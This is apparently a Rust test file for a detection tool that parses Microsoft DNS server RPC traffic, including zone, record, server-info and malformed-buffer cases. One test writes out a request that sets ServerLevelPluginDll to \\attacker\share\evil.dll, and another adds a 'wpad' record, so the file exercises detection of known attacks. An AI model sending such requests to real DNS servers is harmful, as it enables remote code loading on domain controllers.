//! Calls of a real client, their stubs as they were on the wire.

use serde_json::{Value, json};

use crate::dcerpc::stubs::testing::{Stub, Talk};
use crate::testing::unhex;

const DNSSERVER: &str = "50abc2a4-574d-40b3-9d66-ee4fd5fba076";

/// Client version, flags and `dc1.lab.example`.
const ENDS: &str = "00000700 00000000 00000200 10000000 00000000 10000000
    6400630031002e006c00610062002e006500780061006d0070006c0065000000";

fn call(opnum: u16, request: &str, response: &str) -> Value {
    Talk::new(DNSSERVER, false)
        .call(opnum, &unhex(request), &unhex(response))
        .only()
}

#[test]
fn a_zone_is_created() {
    let zeros = "00".repeat(4 * 32);
    let activity = call(
        5,
        &format!(
            "{ENDS} 00000000 00000000 04000200 0b000000 00000000 0b000000 5a6f6e6543726561746500 00 28000000 28000000
             08000200 00000000 00000000 0c000200 01000000 00000000 00000000 00000000 00000000 01000000 01000000 00000000 00000000
             00000000 00000000 00000000 00000000 00000000 04000000 00000000 {zeros}
             13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100"
        ),
        "00000000",
    );
    let details = &activity["details"];
    assert_eq!(activity["kind"], "rpc_call");
    assert_eq!(
        (&details["dns_operation"], &details["dns_server"]),
        (&json!("ZoneCreate"), &json!("dc1.lab.example"))
    );
    assert_eq!(
        (&details["created_zone"], &details["zone_type"]),
        (&json!("77.10.in-addr.arpa"), &json!(1))
    );
    assert_eq!(details["directory_integrated"], true);
    assert_eq!(details["operation"], "R_DnssrvOperation2");
}

#[test]
fn a_property_is_named() {
    let activity = call(
        5,
        &format!(
            "{ENDS} 04000200 13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100 00 00000000 08000200 13000000
             00000000 13000000 526573657444776f726450726f706572747900 00 0f000000 0f000000 0c000200 02000000 10000200
             0c000000 00000000 0c000000 416c6c6f7755706461746500"
        ),
        "05000000",
    );
    let details = &activity["details"];
    assert_eq!(
        (&details["property"], &details["value"]),
        (&json!("AllowUpdate"), &json!(2))
    );
    assert_eq!(details["zone"], "77.10.in-addr.arpa");
    assert_eq!(activity["status"]["name"], "ERROR_ACCESS_DENIED");
}

#[test]
fn records_are_read() {
    let pointer = call(
        9,
        &format!(
            "{ENDS} 04000200 13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100 00 05000000 00000000 05000000
             31302e3000 000000 08000200 11000000 1100 0c00 f0000000 01000000 84030000 00000000 00000000
             106463312e6c61622e6578616d706c652e 000000 00000000"
        ),
        "00000000",
    );
    assert_eq!(pointer["details"]["node"], "10.0");
    assert_eq!(
        pointer["details"]["added"],
        json!({"type": 12, "type_name": "PTR", "ttl": 900, "data": "dc1.lab.example."})
    );
    let wpad = call(
        9,
        &format!(
            "{ENDS} 04000200 0c000000 00000000 0c000000 6c61622e6578616d706c6500 05000000 00000000 05000000 7770616400 000000
             08000200 04000000 0400 0100 f0000000 01000000 84030000 00000000 00000000 0a4d0042 00000000"
        ),
        "00000000",
    );
    assert_eq!(wpad["details"]["added"]["data"], "10.77.0.66");
    assert_eq!(
        (&wpad["details"]["zone"], &wpad["details"]["node"]),
        (&json!("lab.example"), &json!("wpad"))
    );
}

#[test]
fn an_enumeration_names_zone_node_and_type() {
    let activity = call(
        8,
        &format!(
            "{ENDS} 04000200 0c000000 00000000 0c000000 6c61622e6578616d706c6500 08000200 02000000 00000000 02000000 4000
             0000 00000000 ff00 0000 01000000 00000000 00000000"
        ),
        "00000000 00000000 00000000",
    );
    let details = &activity["details"];
    assert_eq!(
        (&details["zone"], &details["node"]),
        (&json!("lab.example"), &json!("@"))
    );
    assert_eq!(
        (&details["record_type"], &details["select_flags"]),
        (&json!(255), &json!(1))
    );
}

#[test]
fn a_library_that_the_server_is_to_load_is_named() {
    for wide in [false, true] {
        let request = Stub::new(wide)
            .u32(0x0007_0000)
            .u32(0)
            .wide_argument("dc1")
            .null()
            .u32(0)
            .pointer()
            .narrow_string("ServerLevelPluginDll")
            .u32(3)
            .pad64(8)
            .u32(3)
            .pad64(8)
            .wide_argument(r"\\attacker\share\evil.dll")
            .done();
        let activity = Talk::new(DNSSERVER, wide).call(5, &request, &[0; 4]).only();
        assert_eq!(activity["details"]["dns_operation"], "ServerLevelPluginDll");
        assert_eq!(activity["details"]["value"], r"\\attacker\share\evil.dll");
        assert_eq!(activity["observed"]["host"], "attacker");
    }
}

#[test]
fn the_older_operations_have_no_version() {
    let request = Stub::new(false)
        .wide_argument("dc1")
        .null()
        .pointer()
        .narrow_string("ServerInfo")
        .done();
    let activity = Talk::new(DNSSERVER, false).call(1, &request, &[0; 12]).only();
    assert_eq!(activity["details"]["dns_operation"], "ServerInfo");
    let request = Stub::new(false)
        .wide_argument("dc1")
        .null()
        .pointer()
        .narrow_string("EnumZones");
    let request = request.u32(1).u32(1).u32(7).done();
    let activity = Talk::new(DNSSERVER, false).call(2, &request, &[0; 12]).only();
    assert_eq!(activity["details"]["value"], 7);
}

/// Server, zone and operation.
fn query(wide: bool, zone: Option<&str>, operation: &str) -> Stub {
    let stub = Stub::new(wide).wide_argument("dc1");
    let stub = match zone {
        Some(zone) => stub.pointer().narrow_string(zone),
        None => stub.null(),
    };
    stub.pointer().narrow_string(operation)
}

/// `dwTypeId` and the union's arm, a pointer.
fn answer(wide: bool, kind: u32) -> Stub {
    let stub = Stub::new(wide).u32(kind).pad64(8).u32(kind).pad64(8);
    stub.pointer().structure()
}

/// DNS_RPC_SERVER_INFO in its second (19) and third form (35).
fn server(wide: bool, kind: u32) -> Stub {
    let head = answer(wide, kind).u32(1).u32(0).u32(0x4f7c_000a).raw(&[3, 1, 1, 1]);
    let head = head.pointer().pointer().pointer().null().pointer().null().null();
    let head = head.pointer().pointer().null().null();
    let head = (0..6).fold(head, |stub, _| stub.null());
    let settings = match kind {
        35 => (0..3).fold(
            (0..20).fold(head, |stub, n| stub.u32(n)).raw(&[1]).align(4),
            |stub, n| stub.u32(n),
        ),
        _ => (0..24).fold(head, |stub, n| stub.u32(n)),
    };
    let settings = settings.raw(&[1; 28]).pad64(8);
    let named = settings.narrow_string("dc1.lab.example").wide_string("cn=MicrosoftDNS");
    let listed = match kind {
        35 => any(
            any(named, &[&[2, 0, 0, 53, 10, 0, 0, 1]]),
            &[&[
                23, 0, 0, 53, 0, 0, 0, 0, 0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1,
            ]],
        ),
        _ => {
            let first = named.size(2).u32(2).raw(&[10, 0, 0, 1, 10, 0, 0, 2]);
            first.size(1).u32(1).raw(&[192, 0, 2, 1])
        }
    };
    listed
        .narrow_string("lab.example")
        .narrow_string("forest.example")
        .u32(0)
}

/// DNS_ADDR_ARRAY.
fn any(stub: Stub, addresses: &[&[u8]]) -> Stub {
    let count = u32::try_from(addresses.len()).unwrap();
    let stub = stub.size(count).u32(count).u32(count).raw(&[0; 24]);
    addresses.iter().fold(stub, |stub, address| {
        stub.raw(address).raw(&vec![0; 64 - address.len()])
    })
}

#[test]
fn a_server_says_what_it_is() {
    for (wide, kind) in [(false, 19), (true, 19), (false, 35), (true, 35)] {
        let request = query(wide, None, "ServerInfo").done();
        let activity = Talk::new(DNSSERVER, wide)
            .call(1, &request, &server(wide, kind).done())
            .only();
        let details = &activity["details"];
        assert_eq!(details["server_fqdn"], "dc1.lab.example", "{wide} {kind}");
        assert_eq!(
            (&details["domain"], &details["forest"]),
            (&json!("lab.example"), &json!("forest.example"))
        );
        assert_eq!(
            (&details["os_version"], &details["ds_container"]),
            (&json!("10.0.20348"), &json!("cn=MicrosoftDNS"))
        );
        let (servers, forwarders) = match kind {
            35 => (json!(["10.0.0.1"]), json!(["2001:db8::1"])),
            _ => (json!(["10.0.0.1", "10.0.0.2"]), json!(["192.0.2.1"])),
        };
        assert_eq!(
            (&details["server_addresses"], &details["forwarders"]),
            (&servers, &forwarders)
        );
    }
}

/// DNS_RPC_ZONE_LIST in its first (16) and second form (27).
fn zones(wide: bool, kind: u32) -> Stub {
    let list = answer(wide, kind).size(2).structure();
    let begin = |stub: Stub| {
        if kind == 27 {
            stub.structure().u32(1).u32(0)
        } else {
            stub.structure()
        }
    };
    let list = begin(list).u32(2).pointer().pointer();
    ["lab.example", "_msdcs.lab.example"].iter().fold(list, |stub, name| {
        let zone = begin(stub).pointer().u32(0x90).raw(&[1, 50]);
        let zone = if kind == 27 { zone.u32(5).pointer() } else { zone };
        let zone = zone.pad64(8).wide_string(name);
        if kind == 27 {
            zone.narrow_string("DomainDnsZones.lab.example")
        } else {
            zone
        }
    })
}

#[test]
fn zones_are_listed() {
    for (wide, kind) in [(false, 16), (true, 16), (false, 27), (true, 27)] {
        let request = query(wide, None, "EnumZones")
            .u32(1)
            .pad64(8)
            .u32(1)
            .pad64(8)
            .u32(7)
            .done();
        let answer = zones(wide, kind).u32(0).done();
        let details = &Talk::new(DNSSERVER, wide).call(2, &request, &answer).only()["details"];
        assert_eq!(
            details["zones"],
            json!(["lab.example", "_msdcs.lab.example"]),
            "{wide} {kind}"
        );
        assert_eq!((&details["entries"], &details["value"]), (&json!(2), &json!(7)));
    }
}

#[test]
fn partitions_are_listed() {
    for wide in [false, true] {
        let request = query(wide, None, "EnumDirectoryPartitions")
            .u32(1)
            .pad64(8)
            .u32(1)
            .pad64(8)
            .u32(0)
            .done();
        let list = answer(wide, 30).size(1).structure().u32(1).u32(0).u32(1).pointer();
        let list = list.structure().u32(1).u32(0).pointer().u32(0x14).u32(3).pad64(8);
        let list = list.narrow_string("ForestDnsZones.lab.example").u32(0).done();
        let details = &Talk::new(DNSSERVER, wide).call(2, &request, &list).only()["details"];
        assert_eq!(details["partitions"], json!(["ForestDnsZones.lab.example"]));
    }
}

#[test]
fn a_zone_says_who_may_change_and_take_it() {
    for wide in [false, true] {
        let request = query(wide, Some("lab.example"), "ZoneInfo").done();
        let zone = answer(wide, 36)
            .u32(1)
            .u32(0)
            .pointer()
            .u32(1)
            .u32(0)
            .u32(1)
            .u32(0)
            .u32(0)
            .u32(0)
            .u32(1);
        let zone = zone.null().null().u32(0).u32(0).done();
        let details = &Talk::new(DNSSERVER, wide).call(1, &request, &zone).only()["details"];
        assert_eq!(details["allow_update_name"], "ZONE_UPDATE_UNSECURE");
        assert_eq!(details["secure_secondaries_name"], "ZONE_SECSECURE_NO_SECURITY");
    }
}

#[test]
fn settings_are_answered() {
    for wide in [false, true] {
        let request = query(wide, None, "ServerLevelPluginDll").done();
        let text = answer(wide, 3).wide_string(r"C:\x.dll").u32(0).done();
        let details = &Talk::new(DNSSERVER, wide).call(1, &request, &text).only()["details"];
        assert_eq!(details["answer"], r"C:\x.dll");
        let number = Stub::new(wide).u32(1).pad64(8).u32(1).pad64(8).u32(17).u32(0).done();
        let details = &Talk::new(DNSSERVER, wide).call(1, &request, &number).only()["details"];
        assert_eq!(details["answer"], 17);
    }
}

/// A node with its name and records of `sizes` octets.
fn node(name: &str, sizes: &[u16]) -> Vec<u8> {
    let pad = |octets: &mut Vec<u8>| octets.resize(octets.len().next_multiple_of(4), 0);
    let mut node = vec![0; 12];
    node.push(u8::try_from(name.len()).unwrap());
    node.extend(name.as_bytes());
    pad(&mut node);
    let length = u16::try_from(node.len()).unwrap();
    node[..2].copy_from_slice(&length.to_le_bytes());
    node[2..4].copy_from_slice(&u16::try_from(sizes.len()).unwrap().to_le_bytes());
    for size in sizes {
        node.extend(
            [
                &size.to_le_bytes()[..],
                &[1, 0],
                &[0; 20],
                &vec![0xff; usize::from(*size)],
            ]
            .concat(),
        );
        pad(&mut node);
    }
    node
}

#[test]
fn names_of_a_zone_are_listed() {
    for wide in [false, true] {
        let request = Stub::new(wide)
            .wide_argument("dc1")
            .pointer()
            .narrow_string("lab.example");
        let request = request
            .pointer()
            .narrow_string("@")
            .null()
            .u16(255)
            .u32(1)
            .null()
            .null()
            .done();
        let buffer = [node("", &[4, 17, 6]), node("dc1", &[4]), node("wpad", &[])].concat();
        let size = u32::try_from(buffer.len()).unwrap();
        let answer = Stub::new(wide)
            .u32(size)
            .pointer()
            .size(size)
            .octets(&buffer)
            .u32(0)
            .done();
        let details = &Talk::new(DNSSERVER, wide).call(3, &request, &answer).only()["details"];
        assert_eq!(details["nodes"], json!(["", "dc1", "wpad"]), "{wide}");
        assert_eq!((&details["entries"], &details["record_count"]), (&json!(3), &json!(4)));
    }
}

#[test]
fn a_zone_that_lies_costs_one_answer() {
    let request = Stub::new(false)
        .wide_argument("dc1")
        .null()
        .null()
        .null()
        .u16(255)
        .u32(1)
        .null()
        .null()
        .done();
    let mut buffer = node("dc1", &[4]);
    buffer[2] = 200;
    let size = u32::try_from(buffer.len()).unwrap();
    let answer = Stub::new(false)
        .u32(size)
        .pointer()
        .size(size)
        .octets(&buffer)
        .u32(0)
        .done();
    let said = Talk::new(DNSSERVER, false).call(3, &request, &answer).finish();
    assert_eq!(said.activities[0]["details"].get("nodes"), None);
    assert_eq!(said.out.counters.malformed().len(), 1);
    let many: Vec<u8> = (0..300).flat_map(|_| node("x", &[])).collect();
    let size = u32::try_from(many.len()).unwrap();
    let answer = Stub::new(false).u32(size).pointer().size(size).raw(&many).u32(0).done();
    let said = Talk::new(DNSSERVER, false).call(3, &request, &answer).finish();
    let details = &said.activities[0]["details"];
    assert_eq!(
        (&details["entries"], details["nodes"].as_array().map(Vec::len)),
        (&json!(300), Some(256))
    );
    assert_eq!(said.out.counters.limits(), [("dcerpc.listed", 1)]);
}
